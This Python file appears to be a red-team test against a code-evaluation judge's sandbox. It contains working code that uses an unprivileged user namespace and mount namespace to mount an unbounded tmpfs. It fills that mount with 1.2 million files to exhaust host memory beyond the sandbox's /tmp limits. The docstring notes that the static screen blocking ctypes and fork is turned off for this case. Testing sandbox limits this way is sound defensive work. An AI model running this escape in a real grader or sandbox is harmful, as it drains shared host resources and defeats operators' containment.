"""Leaves the bounds of its private /tmp behind: the tmpfs the judge mounts over /tmp and
/dev/shm is bounded in bytes and in files (an empty file is about 1 KB of kernel memory
that no limit of the process counts, freed one by one as it dies: red team 7's
dies_slowly.py). But nothing stops an unprivileged process from making a user namespace
of its own (only a multithreaded one is refused: a forked child is single-threaded), and
in it a mount namespace where it may mount a tmpfs with no bound at all
(``nr_inodes=0,size=0``). Its child does that and makes 1.2 million empty files there,
more than its /tmp and /dev/shm may hold together; on it goes, bounded only by the host's
memory (and its death by the time freeing them takes: about 1.5 us a file here). It
reports what it managed in its build's failure. ctypes and fork: the static screen
refuses them; the row switches the screen off."""

import ctypes
import os
import signal

FILES = 1_200_000
PER_FOLDER = 10_000
CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
PR_SET_DUMPABLE = 4


def _child(libc):
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)  # its /proc/self files its own again
    if libc.unshare(CLONE_NEWUSER) != 0:
        return f"user namespace refused: errno {ctypes.get_errno()}"
    for name, text in (("uid_map", "0 65534 1"), ("setgroups", "deny"), ("gid_map", "0 65534 1")):
        with open(f"/proc/self/{name}", "w") as f:
            f.write(text)
    if libc.unshare(CLONE_NEWNS) != 0:
        return f"mount namespace refused: errno {ctypes.get_errno()}"
    os.makedirs("/tmp/evk-redteam-unbounded", exist_ok=True)
    if libc.mount(b"tmpfs", b"/tmp/evk-redteam-unbounded", b"tmpfs", 0, b"nr_inodes=0,size=0") != 0:
        return f"tmpfs refused: errno {ctypes.get_errno()}"
    made = 0
    try:
        for i in range(FILES):
            folder = f"/tmp/evk-redteam-unbounded/{i // PER_FOLDER}"
            if i % PER_FOLDER == 0:
                os.makedirs(folder)
            open(f"{folder}/{i}", "w").close()
            made += 1
    except OSError as exc:
        return f"made {made} files in a tmpfs of its own user namespace, then {exc}"
    return f"made {made} files in a tmpfs of its own user namespace, past its /tmp's bound"


def build(params, kernels):
    libc = ctypes.CDLL(None, use_errno=True)
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        try:
            said = _child(libc)
        except Exception as exc:
            said = f"the child failed: {type(exc).__name__}: {exc}"
        os.write(write, said.encode())
        os.close(write)
        try:  # holds its tmpfs (and its files) until the judge kills it
            while True:
                signal.pause()
        finally:  # never back into the runner: a forked copy would speak for the process
            os._exit(0)
    os.close(write)
    said = b""
    while chunk := os.read(read, 4096):
        said += chunk
        if len(said) > 10:
            break
    raise RuntimeError(f"evk-redteam: {said.decode()}")
